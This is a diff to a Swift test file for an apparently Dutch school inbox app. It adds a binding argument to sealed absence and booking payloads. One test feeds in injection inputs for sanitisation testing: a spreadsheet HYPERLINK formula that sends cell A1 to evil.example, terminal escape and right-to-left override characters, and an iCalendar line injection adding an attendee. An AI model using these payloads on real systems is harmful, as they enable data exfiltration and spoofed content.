@@ -58,11 +58,13 @@ final class InboxCommandTests: XCTestCase {
         defer { receiver.stop() }
         let base = receiver.base
         let absence = try AbsencePayload(child: "Sam Testkind", reason: .ziek, note: "Koorts sinds vannacht")
-            .seal(tokenID: school.tokenID, inboxPublicKey: inbox)
+            .seal(tokenID: school.tokenID, binding: .absence(group: "groep-5", from: "2026-12-01", to: "2026-12-02"), inboxPublicKey: inbox)
         _ = try await parent.send("POST", "/v1/absences", body: try json([
             "group": "groep-5", "from": "2026-12-01", "to": "2026-12-02", "sealed": absence.jsonObject,
         ]))
-        let booking = try BookingPayload(child: "Sam Testkind").seal(tokenID: school.tokenID, inboxPublicKey: inbox)
+        let booking = try BookingPayload(child: "Sam Testkind").seal(
+            tokenID: school.tokenID,
+            binding: .booking(schedule: "groups/groep-5/conferences/test-gesprekken", slot: "2031-02-04T18:15"), inboxPublicKey: inbox)
         _ = try await parent.send("POST", "/v1/bookings", body: try json([
             "schedule": "groups/groep-5/conferences/test-gesprekken", "slot": "2031-02-04T18:15", "sealed": booking.jsonObject,
         ]))
@@ -110,12 +112,13 @@ final class InboxCommandTests: XCTestCase {
         defer { receiver.stop() }
         let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik hier\")"
         let absence = try AbsencePayload(child: formula, reason: .ziek, note: "Rood\u{1B}[31m\u{1B}]0;titel\u{07}\u{202E}tekst")
-            .seal(tokenID: school.tokenID, inboxPublicKey: inbox)
+            .seal(tokenID: school.tokenID, binding: .absence(group: "groep-5", from: "2026-12-01", to: "2026-12-01"), inboxPublicKey: inbox)
         _ = try await parent.send("POST", "/v1/absences", body: try json([
             "group": "groep-5", "from": "2026-12-01", "to": "2026-12-01", "sealed": absence.jsonObject,
         ]))
         let booking = try BookingPayload(child: "Sam\rATTENDEE:mailto:evil@example.com", note: "a;b,c\\d\ne")
-            .seal(tokenID: school.tokenID, inboxPublicKey: inbox)
+            .seal(tokenID: school.tokenID, binding: .booking(schedule: "groups/groep-5/conferences/test-gesprekken", slot: "2031-02-04T18:15"),
+                  inboxPublicKey: inbox)
         _ = try await parent.send("POST", "/v1/bookings", body: try json([
             "schedule": "groups/groep-5/conferences/test-gesprekken", "slot": "2031-02-04T18:15", "sealed": booking.jsonObject,
         ]))
